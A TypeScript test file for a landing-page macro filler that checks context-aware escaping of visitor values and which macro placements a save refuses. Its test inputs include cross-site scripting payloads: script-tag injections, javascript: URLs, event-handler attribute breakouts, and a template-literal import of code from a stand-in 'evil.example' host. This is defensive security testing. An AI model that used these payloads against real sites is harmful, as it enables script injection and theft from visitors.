// Landing macros by context (issue 25, finding 2): where each `{macro}` of a landing's html stands (text,
// attribute, URL, script string or code, comment, style, event handler…), what a value becomes there, and
// which places a save refuses. The pages themselves run in Chromium in macro-context-browser.test.ts.
import { describe, expect, test } from 'bun:test'
import { analyzeMacros, escapeEntities, escapeJsString, fillSlot, safeUrl } from '../../src/catalog/landings/macro-context'
import { compilePage, renderPage } from '../../src/landings/pages'

/** The html with `values` filled in as /lp would (names without a value left as written), and what a save refuses. */
function fill(html: string, values: Record<string, string> = {}) {
  const { parts, problems } = analyzeMacros(html)
  const out = parts.map((p) => typeof p === 'string' ? p : p.macro in values ? fillSlot(p, values[p.macro]!) : `{${p.macro}}`).join('')
  return { out, problems: problems.map((p) => `{${p.macro}} in ${p.context}`) }
}
const filled = (html: string, values: Record<string, string> = {}) => {
  const r = fill(html, values)
  expect(r.problems).toEqual([])
  return r.out
}

describe('escapers', () => {
  test('a script string escape leaves nothing that ends a string, a template literal, a comment or the script', () => {
    expect(escapeJsString(`a\\'"\`\${}<>&/\n\r\u2028\u2029;()=é`)).toBe(
      'a\\u005c\\u0027\\u0022\\u0060\\u0024\\u007b\\u007d\\u003c\\u003e\\u0026\\u002f\\u000a\\u000d\\u2028\\u2029\\u003b\\u0028\\u0029\\u003d\\u00e9')
    expect(escapeJsString('Fb ads, 2024-01: a.b@c_d')).toBe('Fb ads, 2024\\u002d01: a.b@c_d')
    // What the browser reads back is the value itself.
    expect(JSON.parse(`"${escapeJsString('x\'"`${}</script>\u2028😀')}"`)).toBe('x\'"`${}</script>\u2028😀')
  })

  test('unquoted attributes and comments: every character but ASCII letters and digits as a character reference', () => {
    expect(escapeEntities('a b>"\'`=-😀9')).toBe('a&#32;b&#62;&#34;&#39;&#96;&#61;&#45;&#128512;9')
  })

  test('a whole URL: http, https, mailto, tel or relative; any other scheme is about:blank', () => {
    for (const ok of ['https://a.example/x?y=1', 'HTTP://a.example', 'mailto:a@b.example', 'tel:+100', '/r/x?click_id=1', 'page.html', '#top', '?a=b', '//cdn.example/x'])
      expect(safeUrl(ok, false)).toBe(ok)
    for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', ' \u0001javascript:alert(1)', 'java\tscript:alert(1)', 'jav\nascript:x', 'data:text/html,<script>', 'vbscript:x', 'blob:https://a/b', 'x-app:open'])
      expect(safeUrl(bad, false)).toBe('about:blank')
    // Followed by more text in the attribute: a value that could still become a scheme is made plainly relative.
    expect(safeUrl('javascript', true)).toBe('./javascript')
    expect(safeUrl('', true)).toBe('./')
    expect(safeUrl('a/b', true)).toBe('a/b')
  })
})

describe('the place of each macro, and what its value becomes', () => {
  test('text, title, textarea and quoted attributes: HTML-escaped; comments: character references', () => {
    const evil = `"'><script>alert(1)</script>--!>-->`
    expect(filled('<p>{q}</p><title>{q}</title><textarea>{q}</textarea><p title="{q}" class=\'{q}\'></p><!-- {q} -->', { q: evil })).toBe(
      '<p>&#34;&#39;&#62;&#60;script&#62;alert(1)&#60;/script&#62;--!&#62;--&#62;</p>' +
      '<title>&#34;&#39;&#62;&#60;script&#62;alert(1)&#60;/script&#62;--!&#62;--&#62;</title>' +
      '<textarea>&#34;&#39;&#62;&#60;script&#62;alert(1)&#60;/script&#62;--!&#62;--&#62;</textarea>' +
      '<p title="&#34;&#39;&#62;&#60;script&#62;alert(1)&#60;/script&#62;--!&#62;--&#62;" class=\'&#34;&#39;&#62;&#60;script&#62;alert(1)&#60;/script&#62;--!&#62;--&#62;\'></p>' +
      `<!-- ${escapeEntities(evil)} -->`)
  })

  test('an unquoted attribute: quoted when the macro is the whole value, else character references', () => {
    const next2 = 'x autofocus onfocus=alert(1) tabindex=1'
    expect(filled('<a href={next2}>go</a><input value={next2}>', { next2 })).toBe(
      '<a href="x autofocus onfocus=alert(1) tabindex=1">go</a><input value="x autofocus onfocus=alert(1) tabindex=1">')
    expect(filled('<input value=v{q}>', { q: 'a b>c' })).toBe('<input value=va&#32;b&#62;c>')
    expect(filled('<a href=/go?x={q}>', { q: 'a b' })).toBe('<a href=/go?x=a&#37;20b>')
  })

  test('a URL attribute: the scheme is checked when the macro starts the value; later it is a percent-encoded component', () => {
    expect(filled('<a href="{next}">', { next: 'javascript:alert(1)' })).toBe('<a href="about:blank">')
    expect(filled('<a href=" {next}">', { next: '\tjavascript:alert(1)' })).toBe('<a href=" about:blank">')
    expect(filled('<img src="{u}"><form action="{offer_url}"><button formaction="/go?x={u}"><video poster="{u}"><img srcset="{u} 2x"><svg><a xlink:href="{u}"></a></svg>', { u: 'javascript:alert(1)', offer_url: 'javascript:x' }))
      .toBe('<img src="about:blank"><form action="about:blank"><button formaction="/go?x=javascript%3Aalert(1)"><video poster="about:blank"><img srcset="about:blank 2x"><svg><a xlink:href="about:blank"></a></svg>')
    expect(filled('<a href="{u}">', { u: 'https://shop.example/p?a=1&b=2' })).toBe('<a href="https://shop.example/p?a=1&#38;b=2">')
    expect(filled('<a href="{u}">', { u: '/r/promo?click_id=1' })).toBe('<a href="/r/promo?click_id=1">')
    // Two macros cannot build a scheme between them.
    expect(filled('<a href="{a}{b}">', { a: 'javascript', b: ':alert(1)' })).toBe('<a href="./javascript%3Aalert(1)">')
    expect(filled('<a href="{a}.html">', { a: 'javascript:x' })).toBe('<a href="about:blank.html">')
    // After the scheme or path began: percent-encoded.
    expect(filled('<a href="https://shop.example/p/{p}?q={q}#{f}">', { p: 'a/b', q: 'x&y=1 2', f: '"><b>' }))
      .toBe('<a href="https://shop.example/p/a%2Fb?q=x%26y%3D1%202#%22%3E%3Cb%3E">')
    expect(filled('<a href="page{n}.html">', { n: 'javascript:' })).toBe('<a href="pagejavascript%3A.html">')
  })

  test('script strings: an escape that no value can leave, whatever the quote, with two macros on a line', () => {
    const out = filled("<script>var a='{qa}', b='{qb}', c=\"{qb}\", t=`{t}`; // {qb}\n/* {qb} */</script>",
      { qa: '\\', qb: ';alert(document.domain)//\n*/</script>', t: '${import("https://evil.example/x.js")}' })
    expect(out).toBe("<script>var a='\\u005c', b='" + escapeJsString(';alert(document.domain)//\n*/</script>') + "', c=\"" +
      escapeJsString(';alert(document.domain)//\n*/</script>') + '", t=`' + escapeJsString('${import("https://evil.example/x.js")}') + '`; // ' +
      escapeJsString(';alert(document.domain)//\n*/</script>') + '\n/* ' + escapeJsString(';alert(document.domain)//\n*/</script>') + ' */</script>')
    expect(out).not.toContain('alert(')
    expect(out).not.toContain('${')
  })

  test('script code: a known macro becomes a string literal; any other {name} is the script\'s own braces, never filled', () => {
    expect(filled('<script>var id = {click_id}; const {data} = x; if (a) {b} var t = `${ {sub1} }`</script>', { click_id: 'c1', data: 'alert(1)', b: 'alert(2)', sub1: '"' }))
      .toBe('<script>var id = "c1"; const {data} = x; if (a) {b} var t = `${ "\\u0022" }`</script>')
    // JSON data blocks take the same escape (\\uXXXX is JSON too).
    expect(filled('<script type="application/ld+json">{"name":"{sub1}","id":{click_id}}</script>', { sub1: '"}', click_id: 'c' }))
      .toBe('<script type="application/ld+json">{"name":"\\u0022\\u007d","id":"c"}</script>')
    // A regular expression's {2} is not a visitor's to fill.
    expect(filled('<script>if (x) /\\d{2}/.test(s); var y = a / {b}</script>', { 2: 'x', b: 'y' })).toBe('<script>if (x) /\\d{2}/.test(s); var y = a / {b}</script>')
  })

  test('places no escaping makes safe are refused at save, naming the macro and its place', () => {
    const refused = (html: string) => fill(html).problems
    expect(refused('<button onclick="go(\'{sub1}\')">')).toEqual(['{sub1} in an event handler attribute (onclick)'])
    expect(refused('<p style="color:{c}">')).toEqual(['{c} in a style attribute'])
    expect(refused('<style>.a{color:{c}}</style>')).toEqual(['{c} in a style element'])
    expect(refused('<iframe srcdoc="{h}"></iframe>')).toEqual(['{h} in an iframe srcdoc attribute'])
    expect(refused('<meta http-equiv="refresh" content="0;url={u}">')).toEqual(['{u} in a meta http-equiv tag'])
    expect(refused('<{t}>')).toEqual(['{t} in markup (right after "<")'])
    expect(refused('<a {attr}>')).toEqual(['{attr} in an attribute name'])
    expect(refused('<a href="javascript:go(\'{x}\')">')).toEqual(['{x} in a javascript: URL (href)'])
    expect(refused('<a href="java{x}:y">')).toEqual(['{x} in the scheme of a URL (href)'])
    expect(refused('<script src="{s}"></script>')).toEqual(['{s} in the start of a script src (where code is loaded from or a form is sent)'])
    expect(refused('<script src="https://{s}/x.js"></script>')).toEqual(['{s} in the host part of a script src (where code is loaded from or a form is sent)'])
    expect(refused('<script src="https://cdn.example/{s}.js?v={v}"></script><link rel=stylesheet href="/a.css?v={v}">')).toEqual([])
    // Where the lead form is sent is the page's (or the server's {offer_url}), never a visitor's.
    expect(refused('<form action="{next}"><button formaction="https://{host}/x">')).toEqual([
      '{next} in the start of a form action (where code is loaded from or a form is sent)',
      '{host} in the host part of a button formaction (where code is loaded from or a form is sent)'])
    expect(refused('<script type="importmap">{"imports":{"a":"{u}"}}</script>')).toEqual(['{u} in a script of type importmap'])
    expect(refused('<script>var r = /a{click_id}/</script>')).toEqual(['{click_id} in a regular expression in a script'])
    expect(refused('<script>function f() {}\n/x/.test("{click_id}")</script>')).toEqual(['{click_id} in a script after a "/" that may start a regular expression'])
    expect(refused('<svg><script>var a = "{click_id}"</script></svg>')).toEqual(['{click_id} in a script that is not JavaScript or JSON, or inside svg/math'])
    expect(refused('<script>var s = "</scr{click_id}"</script>')).toEqual(['{click_id} in markup (right after "<")'])
    // The usual places are fine.
    expect(refused('<a href="{offer_url}">{click_id}</a><img src="https://cdn.example/{sub1}.png" alt="{sub2}"><script>var c = "{click_id}"</script>')).toEqual([])
  })
})

describe('renderPage (pages saved before this check)', () => {
  test('a refused place shows the macro as written; an absent query parameter stays as written', () => {
    const page = compilePage({ id: 1, slug: 'x', emailListId: null, html: '<b onclick="go(\'{q}\')">{q}</b><style>.a{c}</style><p>{absent}</p>' })
    const html = renderPage(page, { click: null, route: null, landingId: 1, query: { q: "');alert(1)//", c: '}body{x' }, offerUrl: '#' })
    expect(html).toBe('<b onclick="go(\'{q}\')">&#39;);alert(1)//</b><style>.a{c}</style><p>{absent}</p>')
  })

  test('known macros fill by place too: offer_url in href, click_id as a script string, an empty value quoted', () => {
    const page = compilePage({ id: 7, slug: 'x', emailListId: null, html: '<a href={offer_url}>go</a><script>var id = {click_id}, l = \'{landing_id}\'</script><a title={sub1}>' })
    expect(renderPage(page, { click: null, route: null, landingId: 7, query: null, offerUrl: '/r/promo' }))
      .toBe('<a href="/r/promo">go</a><script>var id = "", l = \'7\'</script><a title="">')
  })
})
